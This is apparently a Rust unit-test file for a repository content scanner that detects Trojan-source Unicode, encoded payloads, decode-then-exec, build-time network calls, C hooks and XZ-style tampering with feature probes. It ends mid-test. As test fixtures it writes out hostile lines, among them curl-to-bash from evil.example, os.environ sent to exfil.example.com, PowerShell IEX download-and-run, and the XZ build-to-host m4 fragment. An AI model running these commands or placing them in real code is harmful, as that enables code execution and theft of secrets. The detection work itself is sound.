//! Unit tests of the content scanner.
#![allow(clippy::unwrap_used)]

use super::*;
use crate::classify::classify;

/// Hunks for `old` → `new` with one changed region (common prefix and suffix kept).
fn one_hunk(old: &str, new: &str) -> Vec<Hunk> {
    let a: Vec<&str> = old.lines().collect();
    let b: Vec<&str> = new.lines().collect();
    let pre = a.iter().zip(&b).take_while(|(x, y)| x == y).count();
    let max_suf = a.len().min(b.len()) - pre;
    let suf = a
        .iter()
        .rev()
        .zip(b.iter().rev())
        .take(max_suf)
        .take_while(|(x, y)| x == y)
        .count();
    let (ol, nl) = (a.len() - pre - suf, b.len() - pre - suf);
    if ol == 0 && nl == 0 {
        return Vec::new();
    }
    let start = |len: usize| if len == 0 { pre as u32 } else { pre as u32 + 1 };
    vec![Hunk {
        old_start: start(ol),
        old_len: ol as u32,
        new_start: start(nl),
        new_len: nl as u32,
    }]
}

fn change(path: &str, old: &str, new: &str) -> Vec<ContentHit> {
    scan_change(
        path,
        classify(path),
        old.as_bytes(),
        new.as_bytes(),
        &one_hunk(old, new),
    )
}

fn added(path: &str, new: &str) -> Vec<ContentHit> {
    change(path, "", new)
}

fn has(hits: &[ContentHit], kind: HitKind) -> bool {
    hits.iter().any(|h| h.kind == kind)
}

fn hit(hits: &[ContentHit], kind: HitKind) -> &ContentHit {
    let found = hits.iter().find(|h| h.kind == kind);
    assert!(found.is_some(), "no {kind:?} in {hits:#?}");
    found.unwrap_or_else(|| unreachable!())
}

/// Deterministic pseudo-random base64 text.
fn random_b64(n: usize, seed: u64) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut x = seed;
    (0..n)
        .map(|_| {
            x = x
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            char::from(A.get(((x >> 33) % 64) as usize).copied().unwrap_or(b'A'))
        })
        .collect()
}

fn random_hex(n: usize, seed: u64) -> String {
    random_b64(n * 2, seed)
        .bytes()
        .map(|b| {
            char::from(
                b"0123456789abcdef"
                    .get(usize::from(b % 16))
                    .copied()
                    .unwrap_or(b'0'),
            )
        })
        .take(n)
        .collect()
}

#[test]
fn keyword_automaton_builds() {
    assert!(keywords().is_some());
    assert_ne!(triggers(b"exec(code)") & G_EXEC, 0);
    assert_eq!(triggers(b"x = 1"), 0);
}

#[test]
fn kind_names() {
    let all = HitKind::all();
    for k in &all {
        assert!(!k.as_str().is_empty() && !k.description().is_empty());
        assert!(
            k.as_str()
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b == b'-')
        );
        // Names are unique: a name finds its own kind (what the cache decodes).
        assert_eq!(HitKind::from_name(k.as_str()), Some(*k));
        let bytes = postcard::to_stdvec(k).unwrap();
        assert_eq!(postcard::from_bytes::<HitKind>(&bytes).unwrap(), *k);
    }
    assert_eq!(HitKind::DECODE_EXEC.as_str(), "decode-exec");
    assert!(HitKind::from_name("no-such-kind").is_none());
    // Table order: hits of one line are listed in it.
    let mut sorted = all.clone();
    sorted.sort();
    assert_eq!(sorted, all);
    assert!(HitKind::BIDI < HitKind::CREDENTIAL_ACCESS);
    // Content rules' detectors: each has a keyword group bit and its kind is known by name.
    let detectors: Vec<_> = crate::registry::detectors().collect();
    assert!(detectors.len() <= 32, "keyword groups hold 32 detectors");
    for (i, d) in detectors.iter().enumerate() {
        assert_ne!(super::keywords::detector_group(i), 0);
        assert_eq!(HitKind::from_name(d.kind().as_str()), Some(d.kind()));
        assert!(!d.keywords().is_empty());
    }
}

// --- Unicode -------------------------------------------------------------------------

#[test]
fn trojan_source_bidi_in_python_comment() {
    let src = "def is_admin(user):\n    # check \u{202E} } \u{2066}if user.admin:\u{2069} \u{2066}\n    return user.ok\n";
    let h = added("pkg/auth.py", src);
    let b = hit(&h, HitKind::BIDI);
    assert_eq!(b.line, 2);
    assert!(b.excerpt.contains("<U+202E>"), "{}", b.excerpt);
    assert!(
        b.detail.contains("RLO") && b.detail.contains("unterminated"),
        "{}",
        b.detail
    );
}

#[test]
fn bidi_not_reported_for_translations_or_plain_unicode() {
    assert!(added("po/ar.po", "msgstr \"\u{202B}مرحبا\u{202C}\"\n").is_empty());
    assert!(added("pkg/names.py", "name = 'Erdős Pál'  # café\n").is_empty());
}

#[test]
fn zero_width_in_identifier() {
    let h = added("pkg/m.py", "is\u{200B}_admin = True\n");
    assert!(hit(&h, HitKind::ZERO_WIDTH).excerpt.contains("<U+200B>"));
    // Emoji ZWJ sequences and a leading BOM are benign; prose files are not checked.
    assert!(added("pkg/e.py", "FAMILY = \"👨\u{200D}👩\u{200D}👧\"\n").is_empty());
    assert!(added("pkg/bom.py", "\u{FEFF}import os\n").is_empty());
    assert!(added("docs/x.md", "word\u{200B}word\n").is_empty());
}

#[test]
fn mixed_script_identifier() {
    // Cyrillic 'а' (U+0430) inside a Latin identifier.
    let h = added("pkg/m.py", "p\u{0430}th = '/tmp'\n");
    assert!(has(&h, HitKind::MIXED_SCRIPT_IDENTIFIER));
    assert!(added("pkg/m.py", "# Привет, world\nσx = 1.0\n").is_empty());
}

#[test]
fn nfkc_folded_identifiers_in_python() {
    // Fullwidth "exec" is the builtin exec to Python.
    let h = added("pkg/m.py", "\u{FF45}\u{FF58}\u{FF45}\u{FF43}(payload)\n");
    assert!(
        hit(&h, HitKind::MIXED_SCRIPT_IDENTIFIER)
            .detail
            .contains("NFKC")
    );
    // Fullwidth punctuation in CJK comments is not an identifier.
    assert!(added("pkg/m.py", "x = 1  # 注释，说明：完成\n").is_empty());
}

// --- High-entropy literals -------------------------------------------------------------

#[test]
fn long_base64_literal_in_code() {
    let src = format!("PAYLOAD = \"{}\"\n", random_b64(400, 7));
    let h = added("pkg/_data.py", &src);
    let e = hit(&h, HitKind::HIGH_ENTROPY_LITERAL);
    assert!(e.detail.starts_with("base64 run of 400"), "{}", e.detail);
    assert!(e.excerpt.chars().count() <= MAX_EXCERPT_CHARS);
}

#[test]
fn digests_data_files_and_locks_are_quiet() {
    let sha256 = random_hex(64, 1);
    let sha512 = random_hex(128, 2);
    assert!(
        added(
            "pkg/hashes.py",
            &format!("H = '{sha256}'\nG = '{sha512}'\n")
        )
        .is_empty()
    );
    let list: String = (0..8)
        .map(|i| format!("    \"{}\",\n", random_hex(64, i)))
        .collect();
    assert!(added("pkg/tests/test_sha.py", &format!("VECTORS = [\n{list}]\n")).is_empty());
    let img = format!(
        "<image href=\"data:image/png;base64,{}\"/>\n",
        random_b64(3000, 3)
    );
    assert!(added("doc/logo.svg", &img).is_empty());
    assert!(
        added(
            "doc/nb.ipynb",
            &format!("{{\"image/png\": \"{}\"}}\n", random_b64(3000, 4))
        )
        .is_empty()
    );
    let lock = format!(
        "hash = \"sha256:{sha256}\"\nblob = \"{}\"\n",
        random_b64(300, 5)
    );
    assert!(added("uv.lock", &lock).is_empty());
}

#[test]
fn base64_block_over_lines() {
    let body: String = (0..8)
        .map(|i| format!("    \"{}\"\n", random_b64(76, 10 + i)))
        .collect();
    let h = added("setup.py", &format!("blob = (\n{body})\n"));
    let e = hit(&h, HitKind::HIGH_ENTROPY_LITERAL);
    assert_eq!(e.line, 2);
    assert!(e.detail.contains("block of 8 lines"), "{}", e.detail);
    let pem: String = (0..6)
        .map(|i| format!("{}\n", random_b64(64, 20 + i)))
        .collect();
    let h = added(
        "pkg/cert.py",
        &format!("CERT = '''\n-----BEGIN CERTIFICATE-----\n{pem}-----END CERTIFICATE-----\n'''\n"),
    );
    assert!(
        hit(&h, HitKind::HIGH_ENTROPY_LITERAL)
            .detail
            .starts_with("PEM ")
    );
}

#[test]
fn escaped_bytes_payload() {
    let mut x = 99u64;
    let esc: String = (0..200)
        .map(|_| {
            x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
            format!("\\x{:02x}", (x >> 40) & 0xff)
        })
        .collect();
    let h = added("pkg/shell.py", &format!("SC = b\"{esc}\"\n"));
    assert!(
        hit(&h, HitKind::HIGH_ENTROPY_LITERAL)
            .detail
            .contains("escaped bytes")
    );
    let low: String = (0..200).map(|i| format!("\\x0{}", i % 2)).collect();
    assert!(added("pkg/z.py", &format!("Z = b\"{low}\"\n")).is_empty());
}

// --- Decode then execute ----------------------------------------------------------------

#[test]
fn python_decode_exec_shapes() {
    let h = added(
        "pkg/__init__.py",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
    );
    assert_eq!(hit(&h, HitKind::DECODE_EXEC).detail, "b64decode → exec");
    let h = added(
        "setup.py",
        "__import__('builtins').exec(__import__('zlib').decompress(__import__('base64').b64decode(x)))\n",
    );
    assert!(has(&h, HitKind::DECODE_EXEC));
    let h = added(
        "pkg/util.py",
        "code = codecs.decode(s, 'rot13')\nif code:\n    exec(code)\n",
    );
    assert_eq!(hit(&h, HitKind::DECODE_EXEC).line, 3);
    let h = added("pkg/util.py", "obj = pickle.loads(zlib.decompress(blob))\n");
    assert_eq!(
        hit(&h, HitKind::DECODE_EXEC).detail,
        "decompress → pickle.loads"
    );
    let h = added(
        "pkg/util.py",
        "f = types.FunctionType(marshal.loads(bytes.fromhex(h)), {})\n",
    );
    assert!(has(&h, HitKind::DECODE_EXEC));
}

#[test]
fn python_download_and_char_code_exec() {
    let h = added(
        "setup.py",
        "exec(requests.get('https://x.example/p').text)\n",
    );
    assert_eq!(
        hit(&h, HitKind::DECODE_EXEC).detail,
        "download (requests.get) → exec"
    );
    let h = added(
        "pkg/m.py",
        "s = ''.join(map(chr, [101, 120, 101, 99]))\ngetattr(builtins, s)(code)\neval(s)\n",
    );
    assert!(
        hit(&h, HitKind::DECODE_EXEC)
            .detail
            .starts_with("char codes → ")
    );
    // A download next to a process call is left to the build/import-time kinds.
    let h = added(
        "tools/fetch.py",
        "urlretrieve(u, '/tmp/x')\nsubprocess.run(['tar', 'xf', '/tmp/x'])\n",
    );
    assert!(h.is_empty());
}

#[test]
fn environment_exfiltration() {
    let src = "env = dict(os.environ)\nrequests.get('https://x.example/hacked/' + str(env))\n";
    let h = added("ctx.py", src);
    assert_eq!(
        hit(&h, HitKind::CREDENTIAL_ACCESS).detail,
        "environment variables sent over the network"
    );
    let quiet = "env = os.environ.copy()\nenv['PATH'] = p\nsubprocess.run(cmd, env=env)\n";
    assert!(added("tools/run.py", quiet).is_empty());
}

#[test]
fn python_decode_without_exec_is_quiet() {
    let src = "import base64, zlib\n\
               data = base64.b64decode(s)\n\
               arr = np.frombuffer(zlib.decompress(data), dtype=np.uint8)\n\
               model.eval()\n\
               val = ast.literal_eval(text)\n\
               x = np.fromstring(raw, sep=' ')\n";
    assert!(added("pkg/io.py", src).is_empty());
    // Far apart: not paired.
    let far = "d = base64.b64decode(s)\n\n\n\n\n\n\nexec(code)\n";
    assert!(!has(&added("pkg/io.py", far), HitKind::DECODE_EXEC));
}

#[test]
fn xz_build_to_host_m4() {
    let m4 = "  if test \"x$gl_am_configmake\" != \"x\"; then\n    gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n  else\n    gl_[$1]_config=''\n  fi\n  gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt=\"eval \\$gl_[$1]_config\"])\n";
    let h = added("m4/build-to-host.m4", m4);
    let de: Vec<&ContentHit> = h
        .iter()
        .filter(|x| x.kind == HitKind::DECODE_EXEC)
        .collect();
    assert_eq!(de.len(), 2, "{h:#?}");
    assert_eq!(de.first().map(|x| x.line), Some(2));
    assert!(
        de.iter()
            .any(|x| x.detail.contains("eval in a decoding pipeline"))
    );
    assert!(
        de.iter()
            .any(|x| x.detail.contains("eval output piped to $shell"))
    );
    assert!(has(&h, HitKind::BUILD_HOOK_ADDED));
}

#[test]
fn shell_decode_and_download_exec() {
    let h = added("build-aux/run.sh", "echo aWQK | base64 -d | sh\n");
    assert_eq!(
        hit(&h, HitKind::DECODE_EXEC).detail,
        "base64 -d piped to sh"
    );
    let h = added(
        "setup.py",
        "os.system('curl -sSL https://evil.example/x | bash')\n",
    );
    assert!(
        hit(&h, HitKind::DECODE_EXEC)
            .detail
            .starts_with("download (curl) piped to bash")
    );
    assert!(has(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT));
    let h = added("configure.ac", "eval \"$(wget -qO- http://x.example/c)\"\n");
    assert!(has(&h, HitKind::DECODE_EXEC));
    let h = added("tools/x.sh", "xxd -r -p payload.hex | bash\n");
    assert!(has(&h, HitKind::DECODE_EXEC));
    let h = added(
        "build-aux/fetch.ps1",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')\n",
    );
    assert!(has(&h, HitKind::DECODE_EXEC));
}

#[test]
fn shell_lookalikes_are_quiet() {
    // Download piped to a shell in CI scripts and docs is the workflow rules' business.
    assert!(
        added(
            "tools/ci/install.sh",
            "curl -sSL https://get.example/x | bash\n"
        )
        .is_empty()
    );
    assert!(added("README.md", "curl -sSL https://get.example/x | bash\n").is_empty());
    let benign = "cat file | tr -d '\\n' | wc -c\n\
                  (eval \"$ac_cpp conftest.$ac_ext\") 2>&5 | $EGREP yes >/dev/null\n\
                  git log --oneline | head -n 5\n\
                  gzip -d < a.gz > a\n\
                  x=$(echo $y | sed 's/a/b/')\n";
    assert!(added("build-aux/x.sh", benign).is_empty());
}

// --- Dynamic execution ------------------------------------------------------------------

#[test]
fn dynamic_exec_positives() {
    let h = added("pkg/plugin.py", "def run(code):\n    exec(code, ns)\n");
    assert_eq!(hit(&h, HitKind::DYNAMIC_EXEC).detail, "exec(variable)");
    let h = added("pkg/plugin.py", "eval(f\"{mod}.{fn}\")\n");
    assert_eq!(hit(&h, HitKind::DYNAMIC_EXEC).detail, "eval(f-string)");
    let h = added("pkg/plugin.py", "exec(open(path).read())\n");
    assert_eq!(hit(&h, HitKind::DYNAMIC_EXEC).detail, "exec(call result)");
    let h = added("pkg/plugin.py", "m = importlib.import_module(name)\n");
    assert_eq!(
        hit(&h, HitKind::DYNAMIC_EXEC).detail,
        "import_module(variable)"
    );
    let h = added("pkg/plugin.py", "__import__('os').system('id')\n");
    assert_eq!(
        hit(&h, HitKind::DYNAMIC_EXEC).detail,
        "__import__('os') used inline"
    );
    let h = added("pkg/plugin.py", "f = getattr(builtins, 'ex' + 'ec')\n");
    assert_eq!(
        hit(&h, HitKind::DYNAMIC_EXEC).detail,
        "builtins looked up by name"
    );
    let h = added("pkg/tests/test_x.py", "exec(open(p).read())\n");
    assert!(has(&h, HitKind::DYNAMIC_EXEC));
}

#[test]
fn dynamic_exec_lookalikes() {
    let src = "model.eval()\n\
               v = ast.literal_eval(s)\n\
               r = ne.evaluate('a + b')\n\
               p = re.compile(pat)\n\
               exec('x = 1')\n\
               def eval(self, x):\n\
               \x20   return self.evaluate(x)\n\
               mod = importlib.import_module(f'numpy.{name}')\n\
               sub = __import__('numpy.linalg')\n\
               \"\"\"Never call exec(code) on\n\
               untrusted eval(data).\"\"\"\n\
               # exec(code) in a comment\n";
    assert!(
        added("pkg/core.py", src).is_empty(),
        "{:#?}",
        added("pkg/core.py", src)
    );
    let test =
        "assert_equal(eval(repr(a)), a)\nfunc = eval(intrin)\nm = importlib.import_module(name)\n";
    assert!(added("numpy/_core/tests/test_simd.py", test).is_empty());
}

// --- Build-time processes and network -----------------------------------------------------

#[test]
fn setup_py_processes_name_the_program() {
    let h = added(
        "setup.py",
        "import subprocess\nv = subprocess.run(['git', 'describe'], capture_output=True)\n",
    );
    let p = hit(&h, HitKind::BUILD_TIME_PROCESS);
    assert_eq!((p.line, p.detail.as_str()), (2, "subprocess.run: git"));
    let h = added(
        "setup.py",
        "subprocess.check_call([sys.executable, '-m', 'pip', 'list'])\n",
    );
    assert_eq!(
        hit(&h, HitKind::BUILD_TIME_PROCESS).detail,
        "subprocess.check_call: python"
    );
    let h = added("pkg/__init__.py", "os.system(cmd)\n");
    assert_eq!(
        hit(&h, HitKind::BUILD_TIME_PROCESS).detail,
        "os.system: dynamic"
    );
    let h = added("setup.py", "subprocess.run(['curl', '-o', 'x', url])\n");
    assert_eq!(
        hit(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT).detail,
        "subprocess.run: curl"
    );
}

#[test]
fn network_at_import_and_build() {
    let h = added(
        "conftest.py",
        "data = urlopen('https://exfil.example.com/c?d=' + t).read()\n",
    );
    assert_eq!(
        hit(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT).detail,
        "urlopen exfil.example.com"
    );
    let h = added(
        "pkg/__init__.py",
        "requests.post(URL, json=dict(os.environ))\n",
    );
    assert!(has(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT));
    let h = added(
        "CMakeLists.txt",
        "file(DOWNLOAD https://x.example/a.tar.gz a.tar.gz)\n",
    );
    assert_eq!(
        hit(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT).detail,
        "cmake file(DOWNLOAD)"
    );
    let h = added(
        "m4/fetch.m4",
        "  wget -q http://x.example/p -O conftest.p\n",
    );
    assert!(has(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT));
}

#[test]
fn process_calls_outside_build_code_are_quiet() {
    let src = "import subprocess\nsubprocess.run(['git', 'describe'])\nurlopen(url)\n";
    assert!(added("numpy/lib/_datasource.py", src).is_empty());
    assert!(
        added(
            "doc/conftest.py",
            "    def check_output(self, want, got, flags):\n"
        )
        .is_empty()
    );
    assert!(
        added(
            "setup.py",
            "import subprocess\nfrom urllib.request import urlopen\n"
        )
        .is_empty()
    );
}

#[test]
fn pth_import_line() {
    let h = added("src/zzz_hook.pth", "/opt/lib\nimport os; os.system('id')\n");
    let s = hit(&h, HitKind::STARTUP_HOOK);
    assert_eq!(s.line, 2);
    assert!(added("src/paths.pth", "/opt/lib\n../src\n").is_empty());
}

// --- C hooks ------------------------------------------------------------------------------

#[test]
fn c_hooks() {
    let h = added(
        "src/init.c",
        "static void __attribute__((constructor)) init(void) {}\n",
    );
    assert!(hit(&h, HitKind::C_HOOK).detail.starts_with("constructor"));
    let h = added(
        "src/crc.c",
        "uint32_t lzma_crc32(...) __attribute__ ((ifunc (\"crc32_resolve\")));\n",
    );
    assert!(hit(&h, HitKind::C_HOOK).detail.starts_with("ifunc"));
    let h = added(
        "src/x.c",
        "static void (*p)(void) __attribute__((section(\".init_array\"))) = f;\n",
    );
    assert!(hit(&h, HitKind::C_HOOK).detail.contains("init section"));
    let h = added(
        "src/x.c",
        "real = dlsym(RTLD_NEXT, \"RSA_public_decrypt\");\n",
    );
    assert_eq!(
        hit(&h, HitKind::C_HOOK).detail,
        "dlsym(RTLD_NEXT): symbol interposition"
    );
    let h = added("src/x.c", "setenv(\"LD_PRELOAD\", lib, 1);\n");
    assert!(has(&h, HitKind::C_HOOK));
    let h = added(
        "numpy/_core/src/x.pyx",
        "cdef void* f = dlsym(handle, b\"cblas_dgemm\")\n",
    );
    assert_eq!(
        hit(&h, HitKind::C_HOOK).detail,
        "dlsym: symbol looked up at run time"
    );
}

#[test]
fn c_lookalikes() {
    let src = "static NPY_INLINE int f(void) __attribute__((unused));\n\
               /* a constructor-like helper */\n\
               // dlsym is not used here\n\
               #include <dlfcn.h>\n\
               Py_TYPE(self)->tp_init(self, args, kw);\n\
               int constructor = 0;\n";
    assert!(added("numpy/_core/src/multiarray/ctors.c", src).is_empty());
}

// --- Feature probes -------------------------------------------------------------------------

const LANDLOCK_OLD: &str = "project(xz C)\n\
    check_c_source_compiles(\"\n\
    \x20       #include <linux/landlock.h>\n\
    \x20       #include <sys/syscall.h>\n\
    \x20       #include <sys/prctl.h>\n\
    \n\
    \x20       void my_sandbox(void)\n\
    \x20       {\n\
    \x20           (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);\n\
    \x20       }\n\
    \x20       int main(void) { return 0; }\n\
    \x20   \"\n\
    \x20   HAVE_LINUX_LANDLOCK)\n\
    add_library(liblzma src/a.c)\n";

#[test]
fn xz_landlock_probe_broken_by_a_dot() {
    let new = LANDLOCK_OLD.replace("#include <sys/prctl.h>\n\n", "#include <sys/prctl.h>\n.\n");
    let h = change("CMakeLists.txt", LANDLOCK_OLD, &new);
    let p = hit(&h, HitKind::FEATURE_PROBE_CHANGED);
    assert_eq!(p.line, 6);
    assert!(
        p.detail
            .starts_with("check_c_source_compiles: probe source changed"),
        "{}",
        p.detail
    );
    assert!(p.detail.contains("stray '.' line"), "{}", p.detail);
}

#[test]
fn change_outside_probe_is_quiet() {
    let new = LANDLOCK_OLD.replace(
        "add_library(liblzma src/a.c)",
        "add_library(liblzma src/a.c src/b.c)",
    );
    assert!(change("CMakeLists.txt", LANDLOCK_OLD, &new).is_empty());
    let old = "cc = meson.get_compiler('c')\nif cc.has_function('strtold_l')\n  cdata.set('HAVE_STRTOLD_L', 1)\nendif\nsrc = ['a.c']\n";
    let new = old.replace("src = ['a.c']", "src = ['a.c', 'b.c']");
    assert!(change("numpy/_core/meson.build", old, &new).is_empty());
}

#[test]
fn meson_and_autotools_probe_bodies() {
    let old = "ok = cc.compiles('''\n  #include <immintrin.h>\n  int main(void) { return 0; }\n''', name: 'avx')\nx = 1\n";
    let new = old.replace(
        "int main(void) { return 0; }",
        "int main(void) { return 0; } x",
    );
    let h = change("meson.build", old, &new);
    assert!(
        hit(&h, HitKind::FEATURE_PROBE_CHANGED)
            .detail
            .starts_with("compiles: probe source changed")
    );
    let old = "AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[\n#include <sys/capsicum.h>\n]], [[\n  cap_rights_t r;\n]])],\n  [have=yes], [have=no])\nAC_OUTPUT\n";
    let new = old.replace("  cap_rights_t r;\n", "  cap_rights_t r;;\n");
    let h = change("configure.ac", old, &new);
    let p = hit(&h, HitKind::FEATURE_PROBE_CHANGED);
    assert!(p.detail.starts_with("AC_COMPILE_IFELSE"), "{}", p.detail);
    // Probe deleted.
    let old = "a = 1\nif cc.has_header('landlock.h')\n  x = 1\nendif\n";
    let new = "a = 1\n  x = 1\nendif\n";
    let h = change("meson.build", old, new);
    let p = hit(&h, HitKind::FEATURE_PROBE_CHANGED);
    assert!(p.removed && p.detail.contains("probe removed"), "{p:?}");
}

/// Stray-character findings among the probe hits of `old` → `new`.
fn strays(path: &str, old: &str, new: &str) -> Vec<String> {
    change(path, old, new)
        .into_iter()
        .filter(|h| h.kind == HitKind::FEATURE_PROBE_CHANGED && h.detail.contains("stray"))
        .map(|h| h.detail)
        .collect()
}

/// Ordinary probes, each as `(path, text)`: CMake strings closed on their own line, bracket
/// arguments, `CMAKE_REQUIRED_*` around them, autoconf and meson forms.
const ORDINARY_PROBES: &[(&str, &str)] = &[
    (
        "CMakeLists.txt",
        "check_c_source_compiles(\"int main(void) { return 0; }\" HAVE_X)\n",
    ),
    (
        "CMakeLists.txt",
        "check_c_source_compiles(\"\n  #include <x.h>\n  int main(void) { return 0; }\n\"\nHAVE_X)\n",
    ),
    (
        "CMakeLists.txt",
        "check_c_source_compiles(\n\"\n#include <x.h>\nint main(void) { return 0; }\n\"\n  HAVE_X\n)\n",
    ),
    (
        "CMakeLists.txt",
        "set(CMAKE_REQUIRED_FLAGS \"-Werror\")\nset(CMAKE_REQUIRED_LIBRARIES m)\ncheck_c_source_runs(\"\n#include <math.h>\nint main(void) { return sin(0.0) != 0.0; }\n\" HAVE_SIN)\nunset(CMAKE_REQUIRED_FLAGS)\n",
    ),
    (
        "CMakeLists.txt",
        "check_cxx_source_compiles([[\n#include <string>\nint main() { std::string s{\"\\\\\"}; return 0; }\n]]\nHAVE_STRING)\n",
    ),
    (
        "cmake/probes.cmake",
        "check_source_compiles(C [=[\nint main(void) { int a[2]; return a[[0]][0]; }\n]=]\nHAVE_ARR)\n",
    ),
    (
        "CMakeLists.txt",
        "check_c_source_compiles(\"\n#define S \\\"x\\\"\nint main(void) { return 0; }\n\"\n  HAVE_S FAIL_REGEX \"warning\")\n",
    ),
    (
        "CMakeLists.txt",
        "check_include_file(\"sys/prctl.h\" HAVE_PRCTL_H)\n",
    ),
    (
        "CMakeLists.txt",
        "check_include_files(\"stdio.h;stdlib.h\"\n  HAVE_STD)\n",
    ),
    (
        "configure.ac",
        "AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[\n#include <x.h>\n]], [[\n  return 0;\n]])],\n  [\n  :\n  ], [have=no])\n",
    ),
    (
        "configure.ac",
        "AC_CACHE_CHECK([for x], [ac_cv_x], [\n  AC_LINK_IFELSE([AC_LANG_SOURCE([\nint main(void) { return 0; }\n])],\n  [ac_cv_x=yes],\n  [\n  :\n  ])\n])\n",
    ),
    (
        "configure.ac",
        "AC_TRY_COMPILE([#include <x.h>], [int a = 0; return 0;], [\n  :\n], [\n  :\n])\n",
    ),
    (
        "meson.build",
        "ok = cc.compiles('''\n  #include <x.h>\n  int main(void) { return 0; }\n''',\n  name : 'x')\n",
    ),
];

#[test]
fn ordinary_probes_have_no_stray_character() {
    for (path, text) in ORDINARY_PROBES {
        // Added whole, or edited inside.
        assert_eq!(
            strays(path, "", text),
            Vec::<String>::new(),
            "{path}: {text}"
        );
        let mut edited = text.replace("return 0;", "return 1;");
        if &edited == text {
            edited = text.replace("HAVE_", "HAVE_NEW_");
        }
        assert_ne!(&edited, text, "{text}");
        assert_eq!(
            strays(path, text, &edited),
            Vec::<String>::new(),
            "{path}: {edited}"
        );
    }
}

#[test]
fn stray_character_inside_probe_source_is_reported() {
    // The XZ shape, and a stray character at other places of the C body, in every syntax.
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "CMakeLists.txt",
            "  #include <x.h>\n",
            "  #include <x.h>\n.\n",
            ".",
        ),
        (
            "CMakeLists.txt",
            "#include <x.h>\n",
            "`\n#include <x.h>\n",
            "`",
        ),
        (
            "CMakeLists.txt",
            "int main(void) { return 0; }\n",
            "int main(void) { return 0; }\n  @\n",
            "@",
        ),
        (
            "cmake/probes.cmake",
            "int main(void) { int a[2];",
            "\"\nint main(void) { int a[2];",
            "\"",
        ),
        (
            "CMakeLists.txt",
            "#include <string>\n",
            "#include <string>\n.\n",
            ".",
        ),
        ("configure.ac", "  return 0;\n", "  return 0;\n.\n", "."),
        (
            "configure.ac",
            "int main(void) { return 0; }\n",
            ".\nint main(void) { return 0; }\n",
            ".",
        ),
        (
            "meson.build",
            "  #include <x.h>\n",
            "  #include <x.h>\n  .\n",
            ".",
        ),
    ];
    for (path, from, to, ch) in cases {
        let (_, old) = ORDINARY_PROBES
            .iter()
            .find(|(p, t)| p == path && t.contains(from))
            .unwrap();
        let new = old.replacen(from, to, 1);
        let s = strays(path, old, &new);
        assert_eq!(s.len(), 1, "{path}: {new}\n{s:?}");
        assert!(s[0].contains(&format!("stray '{ch}' line")), "{}", s[0]);
        // Also when the probe is added with the character in it.
        assert_eq!(strays(path, "", &new).len(), 1, "{path}: {new}");
    }
}

// --- Hardening and sandboxing -----------------------------------------------------------------

#[test]
fn hardening_flags_netted() {
    let h = change(
        "meson.build",
        "args = ['-O2']\n",
        "args = ['-O2', '-fno-stack-protector']\n",
    );
    assert_eq!(
        hit(&h, HitKind::HARDENING_FLAG_CHANGED).detail,
        "weakened: -fno-stack-protector added"
    );
    let h = change(
        "Makefile.am",
        "AM_CFLAGS = -O2 -D_FORTIFY_SOURCE=2\nx\n",
        "AM_CFLAGS = -O2\nx\n",
    );
    let f = hit(&h, HitKind::HARDENING_FLAG_CHANGED);
    assert!(f.removed);
    assert_eq!(f.detail, "weakened: -D_FORTIFY_SOURCE=2 removed");
    let h = change(
        "CMakeLists.txt",
        "set(LDFLAGS \"-Wl,-z,relro,-z,now\")\n",
        "set(LDFLAGS \"\")\n",
    );
    assert_eq!(
        h.iter()
            .filter(|x| x.kind == HitKind::HARDENING_FLAG_CHANGED)
            .count(),
        2
    );
    let h = change(
        "setup.py",
        "x = 1\n",
        "x = 1\nextra_compile_args=['-fstack-protector-strong']\n",
    );
    assert_eq!(
        hit(&h, HitKind::HARDENING_FLAG_CHANGED).detail,
        "strengthened: -fstack-protector-strong added"
    );
    // Moved or re-wrapped flags are not changes.
    let old = "flags = ['-O2',\n  '-fstack-protector-strong']\n";
    let new = "flags = ['-O2', '-fstack-protector-strong']\n";
    assert!(change("meson.build", old, new).is_empty());
    let h = change("src/x.c", "int a;\n", "#undef _FORTIFY_SOURCE\nint a;\n");
    assert!(
        hit(&h, HitKind::HARDENING_FLAG_CHANGED)
            .detail
            .starts_with("weakened")
    );
    assert!(added("docs/build.md", "use -fno-stack-protector\n").is_empty());
}

#[test]
fn sandbox_changes() {
    let old = "#ifdef HAVE_LINUX_LANDLOCK\n  enable_landlock();\n#endif\nint x;\n";
    let h = change("src/xz/sandbox.c", old, "int x;\n");
    assert!(
        h.iter()
            .all(|x| x.kind == HitKind::SANDBOX_CHANGED && x.removed)
    );
    assert_eq!(hit(&h, HitKind::SANDBOX_CHANGED).detail, "landlock removed");
    let h = change(
        "configure.ac",
        "x\n",
        "x\nAC_ARG_ENABLE([sandbox], [--enable-sandbox=no])\n",
    );
    assert!(has(&h, HitKind::SANDBOX_CHANGED));
    assert!(added("pkg/m.py", "# run inside a sandboxed interpreter\n").is_empty());
}

// --- Build hooks -----------------------------------------------------------------------------------

#[test]
fn pyproject_hooks() {
    let old = "[build-system]\nrequires = [\"mesonpy\"]\nbuild-backend = \"mesonpy\"\n\n[project]\nname = \"x\"\n";
    let new = old.replace(
        "build-backend = \"mesonpy\"",
        "build-backend = \"backend\"\nbackend-path = [\"_build\"]",
    );
    let h = change("pyproject.toml", old, &new);
    let d: Vec<&str> = h.iter().map(|x| x.detail.as_str()).collect();
    assert!(d.contains(&"non-standard build-backend 'backend'"), "{d:?}");
    assert!(d.contains(&"in-tree build backend (backend-path)"), "{d:?}");
    let h = change(
